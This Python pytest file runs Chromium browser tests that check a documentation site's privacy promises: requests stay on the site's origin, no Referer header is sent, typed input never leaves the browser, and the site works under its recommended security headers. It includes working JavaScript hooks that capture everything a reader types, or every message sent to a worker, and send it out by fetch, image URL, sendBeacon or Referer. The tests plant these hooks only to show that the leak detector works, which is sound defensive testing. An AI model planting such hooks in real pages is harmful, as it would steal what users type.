"""The site's privacy promises in Chromium, on the record of every request from both ends (pages,
dedicated and shared workers: support/privacy.py): no request leaves the site's origin and none
carries a Referer; nothing the reader types leaves the browser in any URL, header or body; a copy
of the site with a leak planted in its worker or its page scripts is caught, each kind of leak; and
the security headers README asks hosts to send break nothing."""

from __future__ import annotations

import shutil

import pytest
from support import siteserver
from support.privacy import TYPED, Record, privacy, use_every_check  # noqa: F401  (privacy: the fixture)
from support.site_pages import LANGUAGE_PREFIX, PAGES

from test_published import readme_security_headers  # README's "Security headers" block

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("lang", ["cs", "en", "ru"])
def test_every_request_stays_on_the_site(site_url, page, privacy, lang):
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for path in PAGES:
        page.goto(site_url + LANGUAGE_PREFIX[lang] + path, wait_until="networkidle")
    # search loads its worker and index on first use: type a query as a reader would
    page.keyboard.press("/")
    page.locator(".md-search__input:focus").wait_for()  # what is typed before is lost
    page.keyboard.type("imap", delay=20)
    page.locator(".md-search-result__item").first.wait_for()
    assert len(privacy.chromium) > len(PAGES) and len(privacy.server) > len(PAGES)
    assert not privacy.outside(), privacy.outside()
    # the pages say no-referrer; a worker has its own policy (from the host's headers), and its Referer
    # names its script, never a page
    referrers = {value for r in privacy.requests for name, value in r.headers.items() if name.lower() == "referer"}
    assert not [url for url in referrers if not url.endswith((".js", ".mjs"))], referrers
    assert not errors, errors


@pytest.mark.parametrize("lang, worker", [("cs", "shared"), ("cs", "dedicated"), ("en", "shared"), ("en", "dedicated"), ("ru", "shared")])
def test_nothing_the_reader_types_leaves_the_browser(site_url, browser, privacy, lang, worker):
    context = browser.new_context()
    if worker == "dedicated":
        context.add_init_script("delete window.SharedWorker")
    page = context.new_page()
    use_every_check(page, f"{site_url}{LANGUAGE_PREFIX[lang]}checks/")
    context.close()
    # the worker's own downloads are on the record: Chromium's view reaches every worker
    assert any("/pyodide.asm.wasm" in r.url for r in privacy.chromium), [str(r) for r in privacy.chromium]
    assert not privacy.problems(TYPED), privacy.problems(TYPED)


# ---- the record can see a leak: each kind, planted in a copy of the built site ------------------------

# Prepended to a copy of checks-worker.mjs: every message a page sends the worker (the checks and
# what the reader typed into them) goes out, as a dedicated and as a shared worker.
WORKER_HOOK = """{
  const realFetch = self.fetch.bind(self);
  const leak = (text) => { LEAK };
  const send = (event) => leak(JSON.stringify(event.data));
  self.addEventListener("message", send);
  self.addEventListener("connect", (event) => event.ports[0].addEventListener("message", send));
}
"""
# Prepended to a copy of reader.js: whatever the reader types into any field goes out.
PAGE_HOOK = """(() => {
  const realFetch = window.fetch.bind(window);
  const leak = (text) => { LEAK };
  document.addEventListener("input", (event) => event.target && "value" in event.target && leak(event.target.value), true);
})();
"""
LEAKS = {  # where -> what: the statement that sends `text`; OTHER is another origin
    ("worker", "another origin"): "realFetch(OTHER + 'collect?d=' + encodeURIComponent(text)).catch(() => 0);",
    ("worker", "the site, in a URL"): "realFetch(new URL('../../index.html?d=' + encodeURIComponent(text), self.location)).catch(() => 0);",
    ("worker", "a body"): "realFetch(new URL('../../collect', self.location), {method: 'POST', body: text}).catch(() => 0);",
    ("page", "another origin"): "realFetch(OTHER + 'collect?d=' + encodeURIComponent(text)).catch(() => 0);",
    ("page", "the site, in a URL"): "new Image().src = '/assets/images/favicon.png?d=' + encodeURIComponent(text);",
    ("page", "a body"): "navigator.sendBeacon('/collect', text);",
    # the text put into the page's own address, then any request that names the page
    ("page", "a Referer"): ("history.replaceState(null, '', location.pathname + '?d=' + encodeURIComponent(text)); "
                            "const image = new Image(); image.referrerPolicy = 'unsafe-url'; "
                            "image.src = '/assets/images/favicon.png?' + Math.random();"),
}
SCRIPTS = {"worker": "assets/javascripts/checks-worker.mjs", "page": "assets/javascripts/reader.js"}


@pytest.fixture(scope="module")
def other_origin(tmp_path_factory):
    """A second loopback server: another origin, as far as the browser and the record go."""
    with siteserver.serve(tmp_path_factory.mktemp("other-origin")) as url:
        yield url


def planted_copy(built_site, tmp_path, other: str, where: str | None = None, leak: str | None = None):
    copy = tmp_path / "site"
    shutil.copytree(built_site, copy)
    if where:
        hook = (WORKER_HOOK if where == "worker" else PAGE_HOOK).replace("LEAK", leak).replace("OTHER", repr(other))
        script = copy / SCRIPTS[where]
        script.write_text(hook + script.read_text(encoding="utf-8"), encoding="utf-8")
    return copy


def _kinds(problems: list[str], site: str, other: str) -> set[str]:
    kinds = set()
    for line in problems:
        if line.startswith("another origin: ") and other.rstrip("/") in line:
            kinds.add("another origin")
        elif " in the header Referer of " in line:
            kinds.add("a Referer")
        elif " in the URL of " in line and site.rstrip("/") in line:
            kinds.add("the site, in a URL")
        elif " in the body of " in line:
            kinds.add("a body")
    return kinds


@pytest.mark.parametrize("case", ["unmodified", *(f"{where}: {kind}" for where, kind in LEAKS)])
def test_a_planted_leak_is_caught(built_site, browser, tmp_path, other_origin, case):
    """The privacy assertion of the test above, on a copy of the site with one leak planted (or none):
    it fails on each kind of leak from the worker (shared) and from the page scripts, and holds on
    the unmodified copy."""
    where, _, kind = case.partition(": ")
    copy = planted_copy(built_site, tmp_path, other_origin, *((where, LEAKS[where, kind]) if kind else ()))
    with siteserver.serve(copy) as site:
        record = Record(browser, site)
        context = browser.new_context()
        try:
            use_every_check(context.new_page(), f"{site}checks/")
        finally:
            context.close()
            record.close()
    problems = record.problems(TYPED)
    if not kind:
        assert not problems, problems
    else:
        assert kind in _kinds(problems, site, other_origin), problems or "the planted leak went unseen"


# ---- the security headers README asks a host to send -----------------------------------------------

def test_the_security_headers_readme_asks_for_break_nothing(built_site, browser):
    """Served with them (Content-Security-Policy included), every page loads in both languages with no
    policy violation, search answers, and every check answers in a shared and in a dedicated worker."""
    headers = readme_security_headers()
    assert {"Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy"} <= set(headers)
    siteserver.HEADERS.update(headers)
    try:
        with siteserver.serve(built_site) as site:
            for worker in ("shared", "dedicated"):
                context = browser.new_context()
                context.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                                        "(e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI))")
                if worker == "dedicated":
                    context.add_init_script("delete window.SharedWorker")
                page = context.new_page()
                errors = []
                page.on("pageerror", lambda error: errors.append(str(error)))
                if worker == "shared":
                    for lang in LANGUAGE_PREFIX.values():
                        for path in PAGES:
                            page.goto(site + lang + path, wait_until="networkidle")
                            assert page.evaluate("window.__violations") == [], (lang + path, page.evaluate("window.__violations"))
                    page.keyboard.press("/")
                    page.locator(".md-search__input:focus").wait_for()
                    page.keyboard.type("imap", delay=20)
                    page.locator(".md-search-result__item").first.wait_for()
                use_every_check(page, f"{site}checks/")
                assert page.evaluate("window.__violations") == [] and not errors, (page.evaluate("window.__violations"), errors)
                context.close()
    finally:
        siteserver.HEADERS.clear()
